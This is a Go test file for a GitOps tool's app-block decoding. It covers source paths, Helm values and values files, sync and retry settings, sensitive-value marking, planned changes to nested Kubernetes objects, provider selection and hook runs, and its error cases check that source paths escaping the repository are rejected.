// Copyright 2026 The slipway Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package app

import (
	"maps"
	"path/filepath"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/zclconf/go-cty/cty"

	"slipway.dev/slipway/internal/builtin"
	"slipway.dev/slipway/lang"
	"slipway.dev/slipway/lang/addrs"
	"slipway.dev/slipway/planner/kind"
	"slipway.dev/slipway/planner/plans"
	sdk "slipway.dev/slipway/plugin-sdk"
)

// gitops is the scope of most fixtures: a GitOps repository checked out
// in /cache/gitops at commitA.
func gitops() scope {
	return scope{Sources: map[string]cty.Value{"git.gitops": gitSource("gitops", commitA)}}
}

const webApp = `app "web" {
  source {
    repo = source.git.gitops
    path = "apps/web"
  }
}
`

// attrs picks attributes of an object.
func attrs(v cty.Value, names ...string) map[string]cty.Value {
	out := map[string]cty.Value{}
	for _, n := range names {
		out[n] = v.GetAttr(n)
	}
	return out
}

func TestDecodeApp(t *testing.T) {
	t.Parallel()
	str := cty.StringVal
	tests := map[string]struct {
		src    string
		schema sdk.Schema // appSchema when zero
		sc     scope      // gitops() when zero
		get    []string   // the attributes the rule is about
		want   map[string]cty.Value
		// wantFile gives values_files relative to the fixture's directory.
		wantFile []string
	}{
		"the name is the block's": {
			src: webApp, get: []string{builtin.AppName},
			want: map[string]cty.Value{builtin.AppName: str("web")},
		},
		"a for_each instance's name ends in its key": {
			src: `app "web" {
  for_each = toset(["eu", "us"])
  source { repo = source.git.gitops }
}`,
			sc:   scope{Sources: gitops().Sources, Each: str("eu")},
			get:  []string{builtin.AppName},
			want: map[string]cty.Value{builtin.AppName: str("web-eu")},
		},
		"a count instance's name ends in its index": {
			src: `app "web" {
  count = 3
  source { repo = source.git.gitops }
}`,
			sc:   scope{Sources: gitops().Sources, Count: cty.NumberIntVal(2)},
			get:  []string{builtin.AppName},
			want: map[string]cty.Value{builtin.AppName: str("web-2")},
		},
		"the manifests are the checkout's path, at the source's commit": {
			src: webApp, get: []string{builtin.AppManifestsDir, builtin.AppRevision},
			want: map[string]cty.Value{builtin.AppManifestsDir: str("/cache/gitops/apps/web"), builtin.AppRevision: str(commitA)},
		},
		"without a path, the whole checkout": {
			src: `app "web" {
  source { repo = source.git.gitops }
}`,
			get:  []string{builtin.AppManifestsDir},
			want: map[string]cty.Value{builtin.AppManifestsDir: str("/cache/gitops")},
		},
		"a path is cleaned": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "./apps/../apps/web/"
  }
}`,
			get:  []string{builtin.AppManifestsDir},
			want: map[string]cty.Value{builtin.AppManifestsDir: str("/cache/gitops/apps/web")},
		},
		"a source not read yet: manifests and revision unknown": {
			src:  webApp,
			sc:   scope{Sources: map[string]cty.Value{"git.gitops": cty.DynamicVal}},
			get:  []string{builtin.AppManifestsDir, builtin.AppRevision},
			want: map[string]cty.Value{builtin.AppManifestsDir: cty.UnknownVal(cty.String), builtin.AppRevision: cty.UnknownVal(cty.String)},
		},
		"a checkout not known yet: manifests unknown, revision known": {
			src:  webApp,
			sc:   scope{Sources: map[string]cty.Value{"git.gitops": withAttr(gitSource("gitops", commitA), builtin.SourceDir, cty.UnknownVal(cty.String))}},
			get:  []string{builtin.AppManifestsDir, builtin.AppRevision},
			want: map[string]cty.Value{builtin.AppManifestsDir: cty.UnknownVal(cty.String), builtin.AppRevision: str(commitA)},
		},
		"the destination's namespace": {
			src: `app "web" {
  source { repo = source.git.gitops }
  destination { namespace = "web-prod" }
}`,
			get:  []string{builtin.AppNamespace},
			want: map[string]cty.Value{builtin.AppNamespace: str("web-prod")},
		},
		"sync settings are lowered to the app's attributes": {
			src: `app "web" {
  source { repo = source.git.gitops }
  sync {
    prune            = true
    self_heal        = true
    create_namespace = true
    prune_last       = false
    wait { timeout = "5m" }
  }
}`,
			get: []string{builtin.AppPrune, builtin.AppSelfHeal, builtin.AppCreateNamespace, builtin.AppPruneLast, builtin.AppWaitTimeout},
			want: map[string]cty.Value{
				builtin.AppPrune: cty.True, builtin.AppSelfHeal: cty.True, builtin.AppCreateNamespace: cty.True,
				builtin.AppPruneLast: cty.False, builtin.AppWaitTimeout: str("5m"),
			},
		},
		"without a sync block, nothing is set": {
			src: webApp,
			get: []string{builtin.AppPrune, builtin.AppSelfHeal, builtin.AppRetry, builtin.AppWaitTimeout},
			want: map[string]cty.Value{
				builtin.AppPrune: cty.NullVal(cty.Bool), builtin.AppSelfHeal: cty.NullVal(cty.Bool),
				builtin.AppRetry: cty.NullVal(builtin.RetryType), builtin.AppWaitTimeout: cty.NullVal(cty.String),
			},
		},
		"a retry is lowered to the retry object, unset settings null": {
			src: `app "web" {
  source { repo = source.git.gitops }
  sync {
    retry {
      limit   = 3
      backoff = "10s"
    }
  }
}`,
			get: []string{builtin.AppRetry},
			want: map[string]cty.Value{builtin.AppRetry: cty.ObjectVal(map[string]cty.Value{
				builtin.RetryLimit: cty.NumberIntVal(3), builtin.RetryBackoff: str("10s"),
				builtin.RetryFactor: cty.NullVal(cty.Number), builtin.RetryMaxBackoff: cty.NullVal(cty.String),
			})},
		},
		"ignore_differences are lowered in order": {
			src: `app "web" {
  source { repo = source.git.gitops }
  ignore_differences {
    group         = "apps"
    kind          = "Deployment"
    json_pointers = ["/spec/replicas"]
  }
  ignore_differences {
    kind      = "ConfigMap"
    name      = "settings"
    namespace = "web"
  }
}`,
			get: []string{builtin.AppIgnoreDifferences},
			want: map[string]cty.Value{builtin.AppIgnoreDifferences: cty.ListVal([]cty.Value{
				cty.ObjectVal(map[string]cty.Value{
					builtin.IgnoreGroup: str("apps"), builtin.IgnoreKind: str("Deployment"),
					builtin.IgnoreName: cty.NullVal(cty.String), builtin.IgnoreNamespace: cty.NullVal(cty.String),
					builtin.IgnoreJSONPointers: cty.ListVal([]cty.Value{str("/spec/replicas")}),
				}),
				cty.ObjectVal(map[string]cty.Value{
					builtin.IgnoreGroup: cty.NullVal(cty.String), builtin.IgnoreKind: str("ConfigMap"),
					builtin.IgnoreName: str("settings"), builtin.IgnoreNamespace: str("web"),
					builtin.IgnoreJSONPointers: cty.NullVal(cty.List(cty.String)),
				}),
			})},
		},
		"a chart from a source: its directory, and values as one JSON document": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "charts/web"
    helm {
      values = {
        replicas = 2
        image    = { tag = "v1" }
      }
    }
  }
}`,
			schema: releaseSchema,
			get:    []string{builtin.HelmChartDir, builtin.HelmValues, builtin.AppRevision, builtin.HelmRepository},
			want: map[string]cty.Value{
				builtin.HelmChartDir: str("/cache/gitops/charts/web"), builtin.HelmValues: str(`{"image":{"tag":"v1"},"replicas":2}`),
				builtin.AppRevision: str(commitA), builtin.HelmRepository: cty.NullVal(cty.String),
			},
		},
		"a chart from a source: values files are in the chart's directory": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "charts/web"
    helm {
      values_files = ["values-prod.yaml", "../shared/values.yaml", "/etc/slipway/values.yaml"]
    }
  }
}`,
			schema: releaseSchema,
			get:    []string{builtin.HelmValuesFiles, builtin.HelmValues},
			want: map[string]cty.Value{
				builtin.HelmValuesFiles: cty.ListVal([]cty.Value{
					str("/cache/gitops/charts/web/values-prod.yaml"), str("/cache/gitops/charts/shared/values.yaml"), str("/etc/slipway/values.yaml"),
				}),
				builtin.HelmValues: cty.NullVal(cty.String),
			},
		},
		"values known only after apply": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    helm {
      values = { replicas = var.replicas }
    }
  }
}`,
			schema: releaseSchema,
			sc:     scope{Sources: gitops().Sources, Vars: map[string]cty.Value{"replicas": cty.UnknownVal(cty.Number)}},
			get:    []string{builtin.HelmValues},
			want:   map[string]cty.Value{builtin.HelmValues: cty.UnknownVal(cty.String)},
		},
		"values that hold a sensitive value are sensitive": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    helm {
      values = { db = { password = var.password } }
    }
  }
}`,
			schema: releaseSchema,
			sc:     scope{Sources: gitops().Sources, Vars: map[string]cty.Value{"password": cty.StringVal("hunter2").Mark(kind.SensitiveMark)}},
			get:    []string{builtin.HelmValues},
			want:   map[string]cty.Value{builtin.HelmValues: str(`{"db":{"password":"hunter2"}}`).Mark(kind.SensitiveMark)},
		},
		"a path from a sensitive variable is sensitive": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "apps/${var.team}"
  }
}`,
			sc:   scope{Sources: gitops().Sources, Vars: map[string]cty.Value{"team": cty.StringVal("web").Mark(kind.SensitiveMark)}},
			get:  []string{builtin.AppManifestsDir, builtin.AppRevision},
			want: map[string]cty.Value{builtin.AppManifestsDir: str("/cache/gitops/apps/web").Mark(kind.SensitiveMark), builtin.AppRevision: str(commitA)},
		},
		"values files from a sensitive variable are sensitive": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    helm { values_files = ["values-${var.env}.yaml"] }
  }
}`,
			schema: releaseSchema,
			sc:     scope{Sources: gitops().Sources, Vars: map[string]cty.Value{"env": cty.StringVal("prod").Mark(kind.SensitiveMark)}},
			get:    []string{builtin.HelmValuesFiles},
			want: map[string]cty.Value{builtin.HelmValuesFiles: cty.ListVal([]cty.Value{
				str("/cache/gitops/values-prod.yaml").Mark(kind.SensitiveMark),
			})},
		},
		"a chart from a repository: its name and version, the version as revision": {
			src: `app "web" {
  chart {
    repository = "https://charts.example.com"
    name       = "web"
    version    = "1.2.3"
  }
}`,
			schema: releaseSchema,
			get:    []string{builtin.HelmRepository, builtin.HelmChart, builtin.HelmVersion, builtin.AppRevision, builtin.HelmChartDir},
			want: map[string]cty.Value{
				builtin.HelmRepository: str("https://charts.example.com"), builtin.HelmChart: str("web"), builtin.HelmVersion: str("1.2.3"),
				builtin.AppRevision: str("1.2.3"), builtin.HelmChartDir: cty.NullVal(cty.String),
			},
		},
		"a chart adopts what Argo CD synced from it": {
			src: `app "web" {
  chart {
    repository = "https://charts.example.com"
    name       = "web"
  }
  sync {
    adopt {
      from = "argocd"
      name = "web"
    }
  }
}`,
			schema: releaseSchema,
			get:    []string{builtin.AppAdopt},
			want: map[string]cty.Value{builtin.AppAdopt: cty.ObjectVal(map[string]cty.Value{
				builtin.AdoptFrom: str("argocd"), builtin.AdoptName: str("web"),
			})},
		},
		"a chart from a repository: values files are beside the configuration": {
			src: `app "web" {
  chart {
    repository   = "https://charts.example.com"
    name         = "web"
    values_files = ["values/prod.yaml"]
  }
}`,
			schema:   releaseSchema,
			wantFile: []string{"values/prod.yaml"},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			schema, sc := tc.schema, tc.sc
			if schema.Attributes == nil {
				schema = appSchema
			}
			if sc.Sources == nil {
				sc = gitops()
			}
			rc := loadBlock(t, tc.src)
			v, diags := decodeApp(rc, typeOf(rc), schema, sc.EvalContext(), nil, nil)
			if diags.HasErrors() {
				t.Fatalf("decodeApp: %s", diags.Error())
			}
			if !v.Type().Equals(schema.ImpliedType()) {
				t.Errorf("decodeApp's value is of type %#v, not the schema's", v.Type())
			}
			if tc.wantFile != nil {
				dir := filepath.Dir(rc.DeclRange.Filename)
				var want []cty.Value
				for _, f := range tc.wantFile {
					want = append(want, cty.StringVal(filepath.Join(dir, f)))
				}
				tc.get, tc.want = []string{builtin.HelmValuesFiles}, map[string]cty.Value{builtin.HelmValuesFiles: cty.ListVal(want)}
			}
			if diff := cmp.Diff(tc.want, attrs(v, tc.get...), ctyCmp); diff != "" {
				t.Errorf("decodeApp (-want +got):\n%s", diff)
			}
		})
	}
}

func TestDecodeAppErrors(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		src  string
		want []string
	}{
		"a chart and a source": {
			src: `app "web" {
  source { repo = source.git.gitops }
  chart {
    repository = "https://charts.example.com"
    name       = "web"
  }
}`,
			want: []string{"Two sources for one app"},
		},
		"neither chart nor source": {
			src: `app "web" {
  destination { namespace = "web" }
}`,
			want: []string{"Missing source block"},
		},
		"a path out of the repository": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "../other"
  }
}`,
			want: []string{"Invalid app source path"},
		},
		"a path out of the repository once cleaned": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "apps/../../other"
  }
}`,
			want: []string{"Invalid app source path"},
		},
		"an absolute path": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = "/etc"
  }
}`,
			want: []string{"Invalid app source path"},
		},
		"a path that is no string": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    path = ["apps", "web"]
  }
}`,
			want: []string{"Invalid app source path"},
		},
		"a repo that is no source": {
			src: `app "web" {
  source { repo = "https://git.example.com/gitops.git" }
}`,
			want: []string{"Invalid app source"},
		},
		"a setting of the wrong type": {
			src: `app "web" {
  source { repo = source.git.gitops }
  sync { prune = "sometimes" }
}`,
			want: []string{"Invalid app setting"},
		},
		"values files that are no list": {
			src: `app "web" {
  source {
    repo = source.git.gitops
    helm { values_files = { a = ["b"] } }
  }
}`,
			want: []string{"Invalid helm values_files"},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rc := loadBlock(t, tc.src)
			schema := appSchema
			if lang.AppUsesHelm(rc) {
				schema = releaseSchema
			}
			v, diags := decodeApp(rc, typeOf(rc), schema, gitops().EvalContext(), nil, nil)
			if diff := cmp.Diff(tc.want, summaries(diags)); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
			if !v.RawEquals(cty.DynamicVal) {
				t.Errorf("decodeApp with errors returned %#v, want cty.DynamicVal", v)
			}
		})
	}
}

// appValue is a planned or prior kubernetes_app with objects by id.
func appValue(objects map[string]cty.Value) cty.Value {
	objs := cty.EmptyObjectVal
	if objects != nil {
		objs = cty.ObjectVal(objects)
	}
	return cty.ObjectVal(map[string]cty.Value{
		builtin.AppName: cty.StringVal("web"), builtin.AppManifestsDir: cty.StringVal("/cache/gitops/apps/web"),
		builtin.AppRevision: cty.StringVal(commitA), builtin.AppObjects: objs,
	})
}

func deployment(replicas int64) cty.Value {
	return cty.ObjectVal(map[string]cty.Value{"spec": cty.ObjectVal(map[string]cty.Value{"replicas": cty.NumberIntVal(replicas)})})
}

func secret(data string) cty.Value {
	return cty.ObjectVal(map[string]cty.Value{"data": cty.ObjectVal(map[string]cty.Value{"password": cty.StringVal(data)})})
}

func configMap(data string) cty.Value {
	return cty.ObjectVal(map[string]cty.Value{"data": cty.ObjectVal(map[string]cty.Value{"k": cty.StringVal(data)})})
}

const (
	deployID = "apps/v1 Deployment web/web"
	cmID     = "v1 ConfigMap web/settings"
	secretID = "v1 Secret web/db"
)

func TestNestedChanges(t *testing.T) {
	t.Parallel()
	null := cty.NullVal(cty.DynamicPseudoType)
	type nested struct {
		Address         string
		Action          plans.Action
		Reason          plans.Reason
		Before, After   cty.Value
		BeforeSensitive []cty.Path
		AfterSensitive  []cty.Path
	}
	tests := map[string]struct {
		ch   *plans.ResourceChange
		want []nested
	}{
		"an object only after is created": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{deployID: deployment(1)}),
				After:  appValue(map[string]cty.Value{deployID: deployment(1), cmID: configMap("a")}),
			},
			want: []nested{
				{Address: deployID, Action: plans.NoOp, Before: deployment(1), After: deployment(1)},
				{Address: cmID, Action: plans.Create, Before: null, After: configMap("a")},
			},
		},
		"an adopted Secret's live data is as sensitive as the provider marked it": {
			ch: &plans.ResourceChange{
				Before: cty.NullVal(cty.DynamicPseudoType),
				After: func() cty.Value {
					m := appValue(map[string]cty.Value{secretID: secret("bmV3")}).AsValueMap()
					m[builtin.AppAdopted] = cty.ObjectVal(map[string]cty.Value{secretID: secret("b2xk")})
					return cty.ObjectVal(m)
				}(),
				AfterSensitive: []cty.Path{
					cty.GetAttrPath(builtin.AppObjects).GetAttr(secretID).GetAttr("data"),
					cty.GetAttrPath(builtin.AppAdopted).GetAttr(secretID).GetAttr("data"),
				},
			},
			want: []nested{{Address: secretID, Action: plans.Update, Reason: plans.ReasonAdopted, Before: secret("b2xk"), After: secret("bmV3"),
				BeforeSensitive: []cty.Path{cty.GetAttrPath("data")}, AfterSensitive: []cty.Path{cty.GetAttrPath("data")}}},
		},
		"an object only before is deleted, as removed": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{cmID: configMap("a")}),
				After:  appValue(nil),
			},
			want: []nested{{Address: cmID, Action: plans.Delete, Reason: plans.ReasonRemoved, Before: configMap("a"), After: null}},
		},
		"an object that differs is updated": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{deployID: deployment(1)}),
				After:  appValue(map[string]cty.Value{deployID: deployment(3)}),
			},
			want: []nested{{Address: deployID, Action: plans.Update, Before: deployment(1), After: deployment(3)}},
		},
		"an object partly known after apply is updated": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{deployID: deployment(1)}),
				After: appValue(map[string]cty.Value{deployID: cty.ObjectVal(map[string]cty.Value{
					"spec": cty.ObjectVal(map[string]cty.Value{"replicas": cty.UnknownVal(cty.Number)}),
				})}),
			},
			want: []nested{{Address: deployID, Action: plans.Update, Before: deployment(1), After: cty.ObjectVal(map[string]cty.Value{
				"spec": cty.ObjectVal(map[string]cty.Value{"replicas": cty.UnknownVal(cty.Number)}),
			})}},
		},
		"a new app creates each object, by id": {
			ch: &plans.ResourceChange{
				Before: cty.NullVal(appValue(nil).Type()),
				After:  appValue(map[string]cty.Value{secretID: configMap("s"), deployID: deployment(1), cmID: configMap("a")}),
			},
			want: []nested{
				{Address: deployID, Action: plans.Create, Before: null, After: deployment(1)},
				{Address: cmID, Action: plans.Create, Before: null, After: configMap("a")},
				{Address: secretID, Action: plans.Create, Before: null, After: configMap("s")},
			},
		},
		"an app without objects on either side holds nothing": {
			ch: &plans.ResourceChange{
				Before: cty.NullVal(appValue(nil).Type()),
				After:  withAttr(appValue(nil), builtin.AppObjects, cty.NullVal(cty.DynamicPseudoType)),
			},
			want: nil,
		},
		"sensitive paths are narrowed to their object": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{secretID: configMap("old"), cmID: configMap("a")}),
				After:  appValue(map[string]cty.Value{secretID: configMap("new"), cmID: configMap("a")}),
				BeforeSensitive: []cty.Path{
					cty.GetAttrPath(builtin.AppObjects).GetAttr(secretID).GetAttr("data").GetAttr("k"),
					cty.GetAttrPath(builtin.AppName),
				},
				AfterSensitive: []cty.Path{
					cty.GetAttrPath(builtin.AppObjects).Index(cty.StringVal(secretID)).GetAttr("data"),
					cty.GetAttrPath(builtin.AppObjects).Index(cty.NumberIntVal(0)),
				},
			},
			want: []nested{
				{Address: cmID, Action: plans.NoOp, Before: configMap("a"), After: configMap("a")},
				{
					Address: secretID, Action: plans.Update, Before: configMap("old"), After: configMap("new"),
					BeforeSensitive: []cty.Path{cty.GetAttrPath("data").GetAttr("k")},
					AfterSensitive:  []cty.Path{cty.GetAttrPath("data")},
				},
			},
		},
		"all objects sensitive makes each object sensitive": {
			ch: &plans.ResourceChange{
				Before:          appValue(map[string]cty.Value{cmID: configMap("a")}),
				After:           appValue(map[string]cty.Value{cmID: configMap("b")}),
				BeforeSensitive: []cty.Path{cty.GetAttrPath(builtin.AppObjects)},
			},
			want: []nested{
				{Address: cmID, Action: plans.Update, Before: configMap("a"), After: configMap("b"), BeforeSensitive: []cty.Path{{}}},
			},
		},
		"objects known only after apply are not deleted": {
			// As after a promote that may change anything in the app's
			// source: each object may change, none is known to go.
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{deployID: deployment(1)}),
				After:  withAttr(appValue(nil), builtin.AppObjects, cty.DynamicVal),
			},
			want: []nested{{Address: deployID, Action: plans.Update, Before: deployment(1), After: cty.DynamicVal}},
		},
		"an app known only after apply deletes no object": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{deployID: deployment(1)}),
				After:  cty.UnknownVal(appValue(nil).Type()),
			},
			want: []nested{{Address: deployID, Action: plans.Update, Before: deployment(1), After: cty.DynamicVal}},
		},
		"a deleted app deletes each object": {
			ch: &plans.ResourceChange{
				Before: appValue(map[string]cty.Value{deployID: deployment(1)}),
				After:  cty.NullVal(appValue(nil).Type()),
			},
			want: []nested{{Address: deployID, Action: plans.Delete, Reason: plans.ReasonRemoved, Before: deployment(1), After: null}},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var got []nested
			for _, nc := range nestedChanges(tc.ch) {
				got = append(got, nested{nc.Address, nc.Action, nc.Reason, nc.Before, nc.After, nc.BeforeSensitive, nc.AfterSensitive})
			}
			if diff := cmp.Diff(tc.want, got, ctyCmp); diff != "" {
				t.Errorf("nestedChanges (-want +got):\n%s", diff)
			}
		})
	}
}

func TestPinAppInputs(t *testing.T) {
	t.Parallel()
	app := func(dir, rev cty.Value) cty.Value {
		return cty.ObjectVal(map[string]cty.Value{
			builtin.AppName: cty.StringVal("web"), builtin.AppManifestsDir: dir, builtin.AppRevision: rev,
		})
	}
	release := func(dir, rev cty.Value) cty.Value {
		return cty.ObjectVal(map[string]cty.Value{builtin.AppName: cty.StringVal("web"), builtin.HelmChartDir: dir, builtin.AppRevision: rev})
	}
	str := cty.StringVal
	unknown := cty.UnknownVal(cty.String)
	tests := map[string]struct {
		cfg, planned cty.Value
		want         cty.Value
	}{
		"the planned manifests and revision win": {
			cfg:     app(str("/cache/gitops/apps/web"), str(commitB)),
			planned: app(str("/pins/a/apps/web"), str(commitA)),
			want:    app(str("/pins/a/apps/web"), str(commitA)),
		},
		"a helm release's planned chart dir wins": {
			cfg:     release(str("/cache/gitops/charts/web"), str(commitB)),
			planned: release(str("/pins/a/charts/web"), str(commitA)),
			want:    release(str("/pins/a/charts/web"), str(commitA)),
		},
		"what the plan did not know is read now": {
			cfg:     app(str("/cache/gitops/apps/web"), str(commitB)),
			planned: app(unknown, unknown),
			want:    app(str("/cache/gitops/apps/web"), str(commitB)),
		},
		"a null planned value is read now": {
			cfg:     app(str("/cache/gitops/apps/web"), str(commitB)),
			planned: app(str("/pins/a/apps/web"), cty.NullVal(cty.String)),
			want:    app(str("/pins/a/apps/web"), str(commitB)),
		},
		"other attributes are not held": {
			cfg: cty.ObjectVal(map[string]cty.Value{
				builtin.AppName: str("web"), builtin.AppManifestsDir: str("/d"), builtin.AppRevision: str(commitB), builtin.AppNamespace: str("new"),
			}),
			planned: cty.ObjectVal(map[string]cty.Value{
				builtin.AppName: str("web"), builtin.AppManifestsDir: str("/d"), builtin.AppRevision: str(commitB), builtin.AppNamespace: str("old"),
			}),
			want: cty.ObjectVal(map[string]cty.Value{
				builtin.AppName: str("web"), builtin.AppManifestsDir: str("/d"), builtin.AppRevision: str(commitB), builtin.AppNamespace: str("new"),
			}),
		},
		"no plan": {
			cfg:     app(str("/cache/gitops/apps/web"), str(commitB)),
			planned: cty.NullVal(app(str(""), str("")).Type()),
			want:    app(str("/cache/gitops/apps/web"), str(commitB)),
		},
		"a configuration not known": {
			cfg:     cty.DynamicVal,
			planned: app(str("/pins/a/apps/web"), str(commitA)),
			want:    cty.DynamicVal,
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tc.want, pinAppInputs(tc.cfg, tc.planned), ctyCmp); diff != "" {
				t.Errorf("pinAppInputs (-want +got):\n%s", diff)
			}
		})
	}
}

func TestKindNested(t *testing.T) {
	t.Parallel()
	ch := func(typ string) *plans.ResourceChange {
		return &plans.ResourceChange{Type: typ, Before: cty.NullVal(appValue(nil).Type()), After: appValue(map[string]cty.Value{cmID: configMap("a")})}
	}
	type result struct {
		Addresses []string
		From      []string
		OK        bool
	}
	tests := map[string]struct {
		ch   *plans.ResourceChange
		want result
	}{
		"a kubernetes_app": {ch: ch(builtin.KubernetesApp), want: result{[]string{cmID}, []string{builtin.AppObjects, builtin.AppInventory, builtin.AppAdopted, builtin.AppHooks, builtin.HelmRandomFields}, true}},
		"a helm_release":   {ch: ch(builtin.HelmRelease), want: result{[]string{cmID}, []string{builtin.AppObjects, builtin.AppInventory, builtin.AppAdopted, builtin.AppHooks, builtin.HelmRandomFields}, true}},
		"another resource": {ch: ch("kubernetes_manifest"), want: result{}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			nested, from, ok := Kind{}.Nested(tc.ch)
			got := result{From: from, OK: ok}
			for _, n := range nested {
				got.Addresses = append(got.Addresses, n.Address)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Nested (-want +got):\n%s", diff)
			}
		})
	}
}

// fakeHost is the engine as Check sees it. The embedded interface is
// nil: a call the test does not expect panics.
type fakeHost struct {
	kind.Host
	providers map[string]kind.Provider
}

func (h fakeHost) Provider(p addrs.Provider) (kind.Provider, bool) {
	pr, ok := h.providers[p.String()]
	return pr, ok
}

type schemaProvider struct {
	kind.Provider
	schemas *sdk.ProviderSchemas
}

func (p schemaProvider) Schemas() *sdk.ProviderSchemas { return p.schemas }

func TestKindLowering(t *testing.T) {
	t.Parallel()
	withTypes := func(types ...string) kind.Provider {
		s := &sdk.ProviderSchemas{Resources: map[string]sdk.Schema{}}
		for _, t := range types {
			s.Resources[t] = sdk.Schema{}
		}
		return schemaProvider{schemas: s}
	}
	const helmApp = `app "web" {
  source {
    repo = source.git.gitops
    helm {}
  }
}`
	type result struct {
		Type      string
		Providers []string
		Errors    []string
	}
	tests := map[string]struct {
		src       string
		providers map[string]kind.Provider
		want      result
	}{
		"a source directory syncs through kubernetes, or through helm once it is found to be a chart": {
			src:       webApp,
			providers: map[string]kind.Provider{"provider.kubernetes": withTypes(builtin.KubernetesApp)},
			want:      result{Type: builtin.KubernetesApp, Providers: []string{"provider.kubernetes", "provider.helm"}},
		},
		"a chart syncs through helm as a helm_release": {
			src:       helmApp,
			providers: map[string]kind.Provider{"provider.helm": withTypes(builtin.HelmRelease)},
			want:      result{Type: builtin.HelmRelease, Providers: []string{"provider.helm"}},
		},
		"a destination's provider alias": {
			src: `app "web" {
  source { repo = source.git.gitops }
  destination { provider = kubernetes.prod }
}`,
			providers: map[string]kind.Provider{"provider.kubernetes.prod": withTypes(builtin.KubernetesApp)},
			want:      result{Type: builtin.KubernetesApp, Providers: []string{"provider.kubernetes.prod"}},
		},
		"a provider without the type is reported": {
			src:       webApp,
			providers: map[string]kind.Provider{"provider.kubernetes": withTypes("kubernetes_manifest")},
			want: result{Type: builtin.KubernetesApp, Providers: []string{"provider.kubernetes", "provider.helm"},
				Errors: []string{"Apps are not supported by this provider"}},
		},
		"a provider not started is reported elsewhere": {
			src:  webApp,
			want: result{Type: builtin.KubernetesApp, Providers: []string{"provider.kubernetes", "provider.helm"}},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rc := loadBlock(t, tc.src)
			got := result{Type: lowering(rc, typeOf(rc)).Type, Errors: summaries(Kind{}.Check(fakeHost{providers: tc.providers}, rc))}
			for _, p := range (Kind{}).Providers(rc) {
				got.Providers = append(got.Providers, p.String())
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("lowering (-want +got):\n%s", diff)
			}
		})
	}
}

func TestHookRuns(t *testing.T) {
	t.Parallel()
	hook := func(phase, id, gen string) cty.Value {
		g := cty.NullVal(cty.String)
		if gen != "" {
			g = cty.StringVal(gen)
		}
		return cty.ObjectVal(map[string]cty.Value{
			builtin.HookPhase: cty.StringVal(phase), builtin.HookID: cty.StringVal(id), builtin.HookGenerateName: g,
			builtin.HookWave: cty.NumberIntVal(0), builtin.HookDeletePolicy: cty.ListVal([]cty.Value{cty.StringVal("HookSucceeded")}),
		})
	}
	app := cty.ObjectVal(map[string]cty.Value{
		builtin.AppHooks: cty.ListVal([]cty.Value{
			hook(builtin.HookPreSync, "batch/v1 Job web/db-migrate-…", "db-migrate-"),
			hook(builtin.HookSyncFail, "batch/v1 Job web/cleanup", ""),
			hook(builtin.HookPostDelete, "batch/v1 Job web/goodbye", ""),
			hook(builtin.HookPostSync, "v1 Pod web/smoke", ""),
		}),
	})
	null := cty.NullVal(app.Type())
	tests := map[string]struct {
		ch   *plans.ResourceChange
		want []string
	}{
		"update runs the sync's hooks": {&plans.ResourceChange{Action: plans.Update, Before: app, After: app},
			[]string{"hook PreSync batch/v1 Job web/db-migrate-… (generateName db-migrate-)", "hook PostSync v1 Pod web/smoke"}},
		"create too":             {&plans.ResourceChange{Action: plans.Create, Before: null, After: app}, []string{"hook PreSync batch/v1 Job web/db-migrate-… (generateName db-migrate-)", "hook PostSync v1 Pod web/smoke"}},
		"no-op runs none":        {&plans.ResourceChange{Action: plans.NoOp, Before: app, After: app}, nil},
		"delete runs PostDelete": {&plans.ResourceChange{Action: plans.Delete, Before: app, After: null}, []string{"hook PostDelete batch/v1 Job web/goodbye"}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var got []string
			for _, nc := range hookRuns(tc.ch) {
				if nc.Action != plans.Run {
					t.Errorf("%s: action %s, want run", nc.Address, nc.Action)
				}
				got = append(got, nc.Address)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestHookRunsShowTheirManifests: a hook's run shows the object it
// creates, against the one the last apply recorded for the same hook, so
// that a changed command is a diff a reviewer reads; a Secret's manifest
// stays hidden. An update that changes no object runs no hook, and shows
// the hooks it records for the next sync instead of an empty change.
